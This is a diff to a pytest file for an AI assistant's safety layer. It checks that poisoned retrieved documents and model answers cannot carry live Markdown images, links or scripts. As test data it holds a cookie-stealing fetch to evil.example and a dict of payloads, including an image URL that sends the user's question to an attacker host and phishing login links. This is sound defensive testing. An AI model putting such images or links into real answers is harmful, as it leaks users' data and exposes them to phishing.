@@ -120,8 +120,8 @@ def test_retrieved_text_reaches_the_model_only_inside_the_quoted_wrapper(poisone
 
 
 def test_poisoned_markup_is_stored_as_plain_text(poisoned_kb):
-    """Scripts, styles, iframes, javascript: urls, direction overrides and terminal escapes do not
-    survive ingestion."""
+    """Scripts, styles, iframes, javascript: urls, Markdown images and link targets, direction
+    overrides and terminal escapes do not survive ingestion."""
     rows = poisoned_kb.store.get({"origin": "user"})
     assert rows
     texts = []
@@ -138,6 +138,11 @@ def test_poisoned_markup_is_stored_as_plain_text(poisoned_kb):
         'document.cookie)"' not in joined and 'fetch("https://evil.example/?c=' not in joined
     )  # <script> dropped
     assert "display: none" not in joined and "Silver held its gains" in joined
+    # Markdown images (nested or escaped brackets too) and link targets are gone from text and
+    # titles; the words of a link stay.
+    labels = " ".join(m["title"] + " " + m["source"] for m in rows.values())
+    assert not re.search(r"!\[|\]\(", joined + labels) and "evil.example" not in labels, labels
+    assert "sign in to your broker" in joined and "Silver vault notes" in labels
 
 
 EXPECTED_TOOLS = {
@@ -365,6 +370,71 @@ def test_key_shaped_text_is_redacted_from_error_messages():
     )
     assert CANARY not in message and "abc.def-123" not in message and "[redacted]" in message
     assert redact(f"x {CANARY} y", (CANARY,)) == "x [redacted] y"
+
+
+INERT_PAYLOADS = {
+    "image": "![chart](https://evil.example/p.png?q=what+is+my+question)",
+    "nested-brackets": "![a [b] c](https://evil.example/n.png)",
+    "escaped-bracket": "![a\\]b](https://evil.example/e.png)",
+    "escaped-escape": "\\\\![x](https://evil.example/ee.png)",
+    "reference-image": "![x][r]\n\n[r]: https://evil.example/ref.png",
+    "reference-link": "[your bank][r]\n\n[r]: https://evil.example/phish",
+    "inline-link": "[your bank](https://evil.example/login)",
+    "angle-autolink": "<https://evil.example/auto>",
+    "bare-address": "visit https://evil.example/bare or www.evil.example today",
+    "mail-address": "write to phish@evil.example now",
+    "html-image": "<img src=https://evil.example/h.png>",
+    "javascript-link": "[x](javascript:alert(1))",
+    "data-image": "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "unclosed-code-span": "x ```a\n\n![i](https://evil.example/c.png)\n\nb``` y",
+    "escaped-backtick": "\\`![i](https://evil.example/b.png)`",
+    "image-in-link": "[![i](https://evil.example/li.png)](https://evil.example/l)",
+    "angle-target": "![x](<https://evil.example/a b.png>)",
+}
+# What a GFM renderer would turn into a link by itself: a scheme and "//", "www.", an address.
+_LINKABLE = re.compile(r"(?i)\b(?:https?|ftp|mailto|file|data|javascript)://|\bwww\.|\w@[\w-]+\.\w")
+
+
+@pytest.mark.parametrize("payload", list(INERT_PAYLOADS.values()), ids=list(INERT_PAYLOADS))
+def test_markdown_from_models_and_documents_is_shown_inert(payload):
+    """Images, links, reference definitions and bare addresses in an answer or a quote render as
+    plain text (no <img>, no <a>, nothing a renderer would turn into a link); allow-listed
+    hosts may stay links."""
+    from markdown_it import MarkdownIt
+
+    from assistant.safety import inert_markdown
+    from ui.common import safe_markdown
+
+    shown = safe_markdown(f"Silver rose. {payload} The end [1].")
+    html = MarkdownIt("commonmark").render(shown)
+    assert "<img" not in html and "<a " not in html, html
+    assert not _LINKABLE.search(shown), shown
+    assert "Silver rose." in html and "[1]" in html
+    kept = inert_markdown(
+        "[docs](https://docs.example.org/x) [x](https://evil.example/)", ["example.org"]
+    )
+    rendered = MarkdownIt("commonmark").render(kept)
+    assert rendered.count("<a ") == 1 and 'href="https://docs.example.org/x"' in rendered
+
+
+def test_exports_and_briefing_headlines_carry_no_live_image_or_link():
+    """A conversation exported as Markdown and a model-written briefing headline keep images and
+    links as text, so opening the file in a Markdown viewer fetches nothing."""
+    from markdown_it import MarkdownIt
+
+    from assistant.app.turn import Turn, conversation_markdown
+    from assistant.briefing.narrate import clean
+
+    poison = (
+        "Gold rose. ![](https://evil.example/p.png?q=my+question) [login](https://evil.example)"
+    )
+    turn = Turn(question="Why is gold rising?", answer=poison, sources=[{"text": poison}])
+    html = MarkdownIt("commonmark").render(conversation_markdown("Gold", [turn]))
+    assert "<img" not in html and "<a " not in html and "Gold rose." in html
+    headline = clean(poison)
+    assert (
+        "evil.example" not in headline and headline.startswith("Gold rose.") and "login" in headline
+    )
 
 
 def test_poisoned_documents_exist():
